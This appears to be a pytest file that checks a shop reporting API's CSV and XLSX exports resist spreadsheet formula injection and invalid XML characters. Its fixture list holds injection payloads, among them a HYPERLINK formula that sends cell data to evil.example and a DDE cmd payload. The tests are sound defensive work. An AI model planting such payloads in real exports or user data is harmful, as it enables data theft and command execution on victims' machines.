"""Exports are safe to open: a SKU or title typed by someone else never runs as a formula
in the CSV, and never corrupts or breaks the XLSX; amounts stay numbers (both databases)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from returnguard.kit.spreadsheet import csv_text, xml_text
from tests.conftest import Api

NET = "/api/v1/reports/net-profit"

# (SKU, title) pairs: formulas in every spelling OWASP lists, and characters XML 1.0
# cannot carry (a bell, a form feed, U+FFFF).
HOSTILE = [
    ('=HYPERLINK("https://evil.example/?"&A1,"x")', "=1+2"),
    ("+SUM(1,2)", "+cmd|' /C calc'!A0"),
    ("-2+3", "-1"),
    ("@SUM(A1)", "@import"),
    ("\tTAB-1", "\rCR title"),
    ("BELL\x07SKU", "form\x0cfeed"),
    ("ODD\uffffSKU", "title \ufffe end"),
    # A carriage return inside a cell: quoted, or a reader would start a new row there.
    ("MID-CR", "line one\rline two"),
]


def _period() -> dict[str, str]:
    today = datetime.now(UTC).date().isoformat()
    return {"group_by": "sku", "from": "2026-01-01", "to": today}


@pytest.fixture
def hostile_shop(api: Api) -> list[tuple[str, str]]:
    api.channel()
    for i, (sku, title) in enumerate(HOSTILE):
        body: dict[str, Any] = {
            "captured": {"amount": "10.00", "currency": "EUR"},
            "lines": [
                {
                    "external_id": "L1",
                    "sku": sku,
                    "title": title,
                    "quantity": 1,
                    "unit_price": {"amount": "10.00", "currency": "EUR"},
                }
            ],
        }
        api.order(f"302-6666666-{i:07d}", **body)
    return HOSTILE


def _cells(api: Api) -> list[list[str]]:
    r = api.get(NET, params=_period() | {"format": "csv"})
    assert r.status_code == 200, r.text
    return list(csv.reader(io.StringIO(r.text)))


def test_csv_text_cells_never_start_a_formula_and_amounts_stay_plain(
    api: Api, hostile_shop: list[tuple[str, str]]
) -> None:
    rows = _cells(api)
    body = rows[1:-1]
    assert len(body) == len(HOSTILE)
    for row in body:
        for text in row[:2]:
            assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row[2] == "10.00"  # revenue: a plain number, not neutralised
    keys = {row[0] for row in body}
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"x")' in keys
    assert "'-2+3" in keys and "'+SUM(1,2)" in keys and "'@SUM(A1)" in keys
    assert rows[-1][0] == "TOTAL" and rows[-1][2] == f"{10 * len(HOSTILE)}.00"


def test_xlsx_keeps_hostile_text_as_text_and_opens(
    api: Api, hostile_shop: list[tuple[str, str]]
) -> None:
    r = api.get(NET, params=_period() | {"format": "xlsx"})
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    rows = list(sheet.iter_rows())
    body = rows[1:-1]
    assert len(body) == len(HOSTILE)
    for row in body:
        assert row[0].data_type == "s" and row[1].data_type == "s"  # never a formula
        assert isinstance(row[2].value, int | float)
        assert Decimal(str(row[2].value)) == Decimal("10")
    texts = {row[0].value for row in body}
    assert '=HYPERLINK("https://evil.example/?"&A1,"x")' in texts  # shown as typed
    assert "BELL\ufffdSKU" in texts and "ODD\ufffdSKU" in texts
    labels = {row[1].value for row in body}
    assert "form\ufffdfeed" in labels


def test_the_cell_rules() -> None:
    assert csv_text("=1") == "'=1" and csv_text("a=1") == "a=1" and csv_text("") == ""
    assert xml_text("a\x00b\x1fc\td\ne") == "a\ufffdb\ufffdc\td\ne"
